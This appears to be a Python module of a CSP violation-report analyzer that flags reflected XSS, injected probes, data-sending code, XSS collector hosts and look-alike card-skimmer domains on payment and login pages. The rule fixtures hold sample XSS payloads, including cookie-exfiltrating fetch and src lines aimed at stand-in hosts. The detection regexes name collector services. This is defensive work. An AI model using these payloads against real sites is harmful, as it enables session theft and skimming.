"""Marks of an attack: injected code that the policy stopped, and hosts that card skimmers would use."""

from __future__ import annotations

import re
from collections.abc import Iterator
from functools import lru_cache

from issues.verdicts.evidence import Evidence, covers, has_unknown_ending, is_local, registrable
from issues.verdicts.injected import TRANSLATORS, host_of_list
from issues.verdicts.lists.addresses import grammar_of
from issues.verdicts.lists.services import KNOWN
from issues.verdicts.lookalike import borrows, imitates, is_served, resembles, typo_of
from issues.verdicts.model import Mark, ProjectFacts, Rule
from policies.violation import Violation

_INLINE = {"effective-directive": "script-src-elem", "blocked-uri": "inline"}
_PAY = {"document-uri": "https://brackenshop.example/checkout"}
_SIGN_IN = {"document-uri": "https://online.brackenshop.example/login"}
_HOME = {"document-uri": "https://brackenshop.example/"}
_SENT = {"effective-directive": "connect-src"}

RULES: tuple[Rule, ...] = (
    Rule(
        "xss-echo",
        "S11",
        "attack",
        "likely",
        "Code from the page's own address",
        "The blocked code stands in the address of the page as well: somebody tried a link that injects code, and the page echoed it.",
        "OWASP, reflected cross-site scripting",
        {
            **_INLINE,
            "document-uri": "https://shop.example/s?q=%3Cscript%3Ealert(document.domain)%3C/script%3E",
            "script-sample": "alert(document.domain)",
        },
        {**_INLINE, "document-uri": "https://shop.example/s?q=shoes", "script-sample": 'var query = "shoes"; search(query)'},
    ),
    Rule(
        "xss-payload",
        "S11",
        "attack",
        "likely",
        "Markup in the page's address",
        "The page's address holds script or markup, and inline code was blocked there.",
        "OWASP, reflected cross-site scripting",
        {**_INLINE, "document-uri": "https://shop.example/s?q=%3Cimg+src=x+onerror=alert(1)%3E"},
        {**_INLINE, "document-uri": "https://shop.example/s?q=red+shoes"},
    ),
    Rule(
        "xss-probe",
        "S11",
        "attack",
        "likely",
        "Code that probes for holes",
        "The blocked code is what people inject to test or abuse a hole.",
        "OWASP, XSS filter evasion",
        {**_INLINE, "script-sample": "fetch('//x.example/'+document.cookie)"},
        {**_INLINE, "script-sample": "alertBox.show('Welcome')"},
    ),
    Rule(
        "xss-sends",
        "S11",
        "attack",
        "likely",
        "Code that sends the page's data away",
        "The blocked code asks {} for something and puts what the page or the visitor's cookies say into the address.",
        "OWASP, XSS filter evasion",
        {
            "effective-directive": "script-src-attr",
            "blocked-uri": "inline",
            "source-file": "https://shop.example/page",
            "line-number": "140",
            "script-sample": "this.src='//collect.example.net/?'+docume",
        },
        {"effective-directive": "script-src-attr", "blocked-uri": "inline", "script-sample": "this.src='//cdn.shop.example/?'+document."},
    ),
    Rule(
        "xss-address",
        "S11",
        "attack",
        "likely",
        "A script named in the page's address",
        "The page's address names {}, and the page then asked for it.",
        "OWASP, reflected cross-site scripting",
        {
            "effective-directive": "script-src-elem",
            "blocked-uri": "https://evil.example/x.js",
            "document-uri": "https://shop.example/s?q=%3Cscript%20src=//evil.example/x.js%3E",
        },
        {
            "effective-directive": "frame-src",
            "blocked-uri": "https://video.example/",
            "document-uri": "https://shop.example/s?v=https://video.example/",
        },
    ),
    Rule(
        "xss-collector",
        "S11",
        "attack",
        "likely",
        "A host that collects what injected code finds",
        "{} belongs to a service that testers and attackers use to see whether their injected code runs.",
        "PortSwigger, Burp Collaborator; ProjectDiscovery, interactsh; XSS Hunter",
        {"effective-directive": "script-src-elem", "blocked-uri": "https://a1b2c3.oastify.com/"},
        {"effective-directive": "script-src-elem", "blocked-uri": "https://portswigger.net/x.js"},
    ),
    Rule(
        "xss-base",
        "S11",
        "attack",
        "likely",
        "A <base> that points elsewhere",
        "Something on the page tried to make {} the base of all its addresses: injected markup does that.",
        "CSP3, base-uri",
        {"effective-directive": "base-uri", "blocked-uri": "https://evil-base.example/"},
        {"effective-directive": "base-uri", "blocked-uri": "https://shop.example/a/"},
    ),
    Rule(
        "lookalike",
        "S12",
        "attack",
        "likely",
        "A host that imitates a known one",
        "The host imitates “{}” letter by letter.",
        "Magecart reports: look-alike hosts",
        {**_SENT, "blocked-uri": "https://googie-anaiytics.example.com/g"},
        {**_SENT, "blocked-uri": "https://www.google-analytics.com/g"},
    ),
    Rule(
        "skimmer-name",
        "S12",
        "attack",
        "likely",
        "A host close to your own on a payment page",
        "On a payment page, data or code was meant for a host that carries or misspells “{}” and is not yours.",
        "Magecart reports: look-alike hosts",
        {**_PAY, "effective-directive": "form-action", "blocked-uri": "https://secure-pay-brackenshop.example.net/post.php"},
        {**_HOME, "effective-directive": "img-src", "blocked-uri": "https://secure-pay-brackenshop.example.net/a.png"},
    ),
    Rule(
        "lookalike-own",
        "S12",
        "attack",
        "likely",
        "A host close to your own where people sign in or pay",
        "Where people sign in or pay, data or code was meant for a host that looks like “{}” and is none of yours. If it is, declare it.",
        "APWG's reports on phishing: look-alike domains",
        {**_SIGN_IN, "effective-directive": "form-action", "blocked-uri": "https://online-brackenshop.invalid/post"},
        {**_HOME, "effective-directive": "form-action", "blocked-uri": "https://online-brackenshop.invalid/post"},
    ),
    Rule(
        "skimmer-host",
        "S12",
        "attack",
        "hint",
        "An unknown host on a payment page",
        "On a payment page, code or data was meant for {}, which neither your policy nor our list of services knows. Look at it first.",
        "PCI DSS 4.0, 6.4.3 and 11.6.1",
        {**_PAY, **_SENT, "blocked-uri": "https://metrics-collect.example.org/v1"},
        {**_PAY, **_SENT, "blocked-uri": "https://api.stripe.com/v1"},
    ),
)
_BY_ID = {rule.id: rule for rule in RULES}

_PAYMENT = re.compile(
    r"(?:^|[/\-_.])(?:checkout|payments?|pay|billing|kasse|zahlung|bezahl\w*|paiement|pago|pagamento|purchase|order[\-_/]?(?:confirm\w*|review)|card|creditcard)(?:[/\-_.]|$)",
    re.IGNORECASE,
)
_ENTRY = re.compile(
    r"(?:^|[/\-_.])(?:log-?in|log-?on|sign-?(?:in|up|on)|sso|auth(?:enti\w*|ori[sz]\w*)?|session|register|registration|password|passwd|2fa|otp|verify|anmeld\w*|einloggen"
    r"|connexion|identification|acceso|ingresar|accedi|iniciar-sesion)(?:[/\-_.]|$)",
    re.IGNORECASE,
)
_ENTRY_HOST = re.compile(r"^(?:log-?in|sign-?in|sso|auth|accounts?|idp?|secure)\.")
_MARKUP = re.compile(
    r"<\s*(?:script|img|svg|iframe|object|embed|base|body|math|video|audio|details|a|style|link|meta)\b[^>]*|\bon(?:error|load|click|mouseover|focus|toggle)\s*="
    r"|javascript:|\bsrcdoc\s*=",
    re.IGNORECASE,
)
_PROBE = re.compile(
    r"\b(?:alert|confirm|prompt)\s*[(`](?:['\"/]?(?:xss|\d{1,6})\b|document\.|location|origin|window\.|self\b|1)"
    r"|document\.cookie|\beval\s*\(\s*(?:atob|unescape|String\.fromCharCode)|\bfromCharCode\(\d+,\d+,|\bonerror\s*=\s*alert|\blocalStorage\.getItem\(['\"](?:token|jwt|session)",
)
# A foreign address that code asks for, with what the page knows added to it; the second half is often cut off.
_SENDS = re.compile(
    r"(?:\.(?:src|href|action|location)|\blocation)\s*=\s*['\"`](?:https?:)?//([\w.\-]+\.[\w\-]+)(?::\d+)?(?:[/?#][^'\"`$]*)?(?:['\"`]\s*\+\s*|\$\{)(.*)"
    r"|\b(?:fetch|open|sendBeacon|import)\s*\(\s*['\"`](?:https?:)?//([\w.\-]+\.[\w\-]+)(?::\d+)?(?:[/?#][^'\"`$]*)?(?:['\"`]\s*\+\s*|\$\{)(.*)",
    re.DOTALL,
)
_WRAPPED = re.compile(r"^(?:(?:escape|encodeURI(?:Component)?|btoa|JSON\.stringify|String|window|self|top|parent)\s*[(.]\s*)*")
# Services that tell whether injected code ran: no site uses them for itself.
_COLLECTOR = re.compile(
    r"(?:^|\.)(?:oastify\.com|burpcollaborator\.net|interact\.sh|oast\.(?:fun|live|me|online|pro|site|us)|xss\.(?:ht|report|cl)|bxss\.(?:me|in)"
    r"|xsshunter\.(?:com|trufflesecurity\.com)|ezxss\.com|dnslog\.(?:cn|store)|ceye\.io|canarytokens\.com|webhook\.site|requestbin\.net)$"
)
_KNOWS = (
    "document.cookie",
    "document.body",
    "document.forms",
    "document.documentElement",
    "document.querySelector",
    "document.getElement",
    "cookie",
    "location",
    "localStorage",
    "sessionStorage",
)
_MIN_CUT = 4
_LONGEST_SAMPLE = 256
"""Senders that are no browsers may send more than 40 characters; no code has to be read to its end."""
_SPACES = re.compile(r"\s+")
_CODE = re.compile(r"[(<=;:`{]")
_SENDING = frozenset({"script", "connect", "form", "worker", "frame"})
_STEALING = frozenset({"script", "connect", "form"})
_MIN_ECHO = 8


def marks(evidence: Evidence) -> Iterator[Mark]:
    """Every mark that fires."""
    if evidence.inline and evidence.family == "script":
        yield from _inline_marks(evidence)
    if evidence.violation.blocked.host:
        yield from _host_marks(evidence)


def is_reflected(violation: Violation) -> bool:
    """Does the page's own address hold the blocked code, or markup? Then payloads differ and the hole is one."""
    return any(True for _ in _reflected_marks(Evidence(violation, ProjectFacts()))) if violation.document.query else False


def _reflected_marks(evidence: Evidence) -> Iterator[Mark]:
    sample = _SPACES.sub("", evidence.violation.sample)
    if len(sample) >= _MIN_ECHO and _CODE.search(sample) and sample in _SPACES.sub("", evidence.query):
        yield _BY_ID["xss-echo"].mark()
    elif evidence.query and _MARKUP.search(evidence.query):
        yield _BY_ID["xss-payload"].mark()


def _inline_marks(evidence: Evidence) -> Iterator[Mark]:
    yield from _reflected_marks(evidence)
    if evidence.violation.sample and _PROBE.search(evidence.violation.sample):
        yield _BY_ID["xss-probe"].mark()
    receiver = _receiver_of(evidence.violation.sample)
    if receiver and not _is_expected(evidence, receiver):
        yield _BY_ID["xss-sends"].mark(receiver[:60])


def _is_expected(evidence: Evidence, host: str) -> bool:
    """The site's own, one that its policy names, or a well-known service."""
    return evidence.is_own(host) or evidence.is_related(host) or _is_known(host) or registrable(host) in evidence.policy_domains


def _receiver_of(sample: str) -> str:
    """The host that the code sends page data to, or "". What counters ask for (referrer, title, size of the screen) is no data."""
    found = _SENDS.search(sample[:_LONGEST_SAMPLE]) if "//" in sample else None
    if not found:
        return ""
    value = _WRAPPED.sub("", found[2] or found[4] or "").rstrip("….")
    tells = value.startswith(_KNOWS) or (len(value) >= _MIN_CUT and any(name.startswith(value) for name in _KNOWS))
    return (found[1] or found[3]).lower() if tells else ""


def _host_marks(evidence: Evidence) -> Iterator[Mark]:
    host = evidence.violation.blocked.host
    if covers(evidence.sites, host):
        return
    if _COLLECTOR.search(host) and not evidence.blocked_is_own:
        yield _BY_ID["xss-collector"].mark(host)
    if evidence.violation.directive == "base-uri" and not evidence.blocked_is_own:
        yield _BY_ID["xss-base"].mark(host)
        return
    if (
        evidence.family in ("script", "object")
        and not evidence.blocked_is_own
        and host in evidence.query
        and _MARKUP.search(evidence.query)
    ):
        yield _BY_ID["xss-address"].mark(host)
    if evidence.family in _SENDING:
        imitated = imitates(host, evidence.own_domains)
        if imitated:
            yield _BY_ID["lookalike"].mark(imitated)
    if evidence.family in _STEALING:
        if _is_sensitive(evidence):
            yield from _skimmer_marks(evidence, host)
        if _is_sensitive(evidence) or _is_entry(evidence):
            yield from _resembling_marks(evidence, host)


def _skimmer_marks(evidence: Evidence, host: str) -> Iterator[Mark]:
    close = borrows(host, evidence.own_domains) or typo_of(host, evidence.own_domains)
    if close:
        yield _BY_ID["skimmer-name"].mark(close)
    elif not (evidence.blocked_is_own or evidence.blocked_is_related or _is_harmless(evidence, host) or evidence.policy_names_blocked):
        yield _BY_ID["skimmer-host"].mark(host)


def _resembling_marks(evidence: Evidence, host: str) -> Iterator[Mark]:
    """Not for hosts that the site's policy names: then a redirect, a port or another directive is the matter."""
    if evidence.policy_names_blocked or _is_known(host):
        return
    like = resembles(host, evidence.own_domains)
    if like and (evidence.family == "form" or not is_served(host, like)):
        yield _BY_ID["lookalike-own"].mark(like)


def _is_harmless(evidence: Evidence, host: str) -> bool:
    """A well-known service, a translator by its own host, or a name that leads nowhere outside the visitor's network: no thief
    gets anything there."""
    found = grammar_of(evidence.blocked_text)
    translator = found is not None and found[0] in TRANSLATORS
    return translator or _is_known(host) or is_local(host) or has_unknown_ending(host)


def _is_known(host: str) -> bool:
    if host_of_list(host):
        return True
    while host:
        if host in KNOWN:
            return True
        host = host.partition(".")[2]
    return False


def _is_sensitive(evidence: Evidence) -> bool:
    path = evidence.violation.document.path
    return bool(_PAYMENT.search(path)) or any(page_pattern(pattern).fullmatch(path) for pattern in evidence.facts.sensitive)


def _is_entry(evidence: Evidence) -> bool:
    document = evidence.violation.document
    return bool(_ENTRY.search(document.path) or _ENTRY_HOST.search(document.host))


@lru_cache(maxsize=1024)
def page_pattern(pattern: str) -> re.Pattern[str]:
    """`/checkout*`: `*` stands for anything; without a `*` the page and all below it."""
    first, *rest = [re.escape(part) for part in pattern.strip().split("*")]
    if not rest:
        return re.compile(f"{first.rstrip('/')}(?:/.*)?")
    # Atomic: the address is a stranger's, and many stars over a long one would be tried in every combination.
    return re.compile(first + "".join(f"(?>.*?{part})" for part in rest[:-1]) + ".*" + rest[-1])
